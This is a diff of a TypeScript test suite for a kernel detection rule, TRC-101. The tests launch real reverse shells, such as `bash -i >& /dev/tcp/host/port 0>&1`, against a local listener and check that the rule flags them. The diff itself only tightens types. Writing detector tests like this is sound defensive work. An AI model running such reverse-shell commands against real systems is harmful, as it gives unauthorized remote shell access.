@@ -13,6 +13,7 @@ const shellCatcher = (host: string) => tcpListener(host, "exit\n");
 
 interface Trc101Finding extends Finding {
   finding: { "IP address": string; Port: string; "File descriptor": number };
+  destination: { ip: string; port: number };
 }
 
 describe.runIf(tier.run)("kernel: TRC-101 on real reverse shells", () => {
@@ -32,7 +33,7 @@ describe.runIf(tier.run)("kernel: TRC-101 on real reverse shells", () => {
   afterAll(() => session?.close());
 
   const trc101For = (port: number) =>
-    findings.filter((f) => (f as { rule: { id: string } }).rule.id === "TRC-101" && f.finding.Port === String(port));
+    findings.filter((f) => f.rule.id === "TRC-101" && f.finding.Port === String(port));
 
   const shells: { name: string; host?: string; cmd: (h: string, p: number) => string; names: string[] }[] = [
     { name: "bash -i >& /dev/tcp (IPv4)", cmd: (h, p) => `bash -i >& /dev/tcp/${h}/${p} 0>&1`, names: ["bash"] },
@@ -98,8 +99,8 @@ describe.runIf(tier.run)("kernel: TRC-101 on real reverse shells", () => {
         const f = found[0]!;
         expect(f.finding["IP address"]).toBe(host);
         expect([0, 1, 2]).toContain(f.finding["File descriptor"]);
-        expect(shell.names).toContain((f as { process: { name: string } }).process.name);
-        expect((f as { destination: { port: number } }).destination.port).toBe(catcher.port);
+        expect(shell.names).toContain(f.process.name);
+        expect(f.destination.port).toBe(catcher.port);
       } finally {
         await catcher.close();
       }
